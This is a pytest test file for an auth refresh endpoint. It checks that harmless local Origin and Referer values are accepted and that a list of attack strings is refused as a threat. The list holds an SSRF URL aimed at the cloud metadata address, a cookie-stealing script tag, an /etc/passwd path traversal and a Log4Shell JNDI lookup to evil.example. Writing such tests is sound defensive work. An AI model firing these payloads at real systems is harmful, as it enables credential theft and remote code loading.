"""Where a browser's page lies is no attack; what else is in those headers may be one."""

from __future__ import annotations

import httpx
import pytest

HARMLESS = ["http://localhost:8000", "http://127.0.0.1:8000", "http://192.168.1.5", "http://[::1]:8000", "null"]
ATTACKS = [
    "http://localhost:8000@169.254.169.254/latest/meta-data",
    "http://localhost/?q=<script>alert(document.cookie)</script>",
    "https://shop.example/../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
]


@pytest.mark.parametrize("address", HARMLESS)
async def test_a_page_may_lie_anywhere(http: httpx.AsyncClient, address: str) -> None:
    page = address if address == "null" else f"{address}/console?page=2"
    answer = await http.post("/v1/auth/refresh", json={"refresh_token": "x"}, headers={"origin": address})
    assert answer.status_code == 401, answer.text
    answer = await http.post("/v1/auth/refresh", json={"refresh_token": "x"}, headers={"referer": page})
    assert answer.status_code == 401, answer.text


@pytest.mark.parametrize("header", ["origin", "referer"])
@pytest.mark.parametrize("value", ATTACKS)
async def test_an_attack_in_a_pages_address_is_refused(http: httpx.AsyncClient, header: str, value: str) -> None:
    answer = await http.post("/v1/auth/refresh", json={"refresh_token": "x"}, headers={header: value})
    assert (answer.status_code, answer.json()["code"]) == (403, "THREAT_DETECTED")
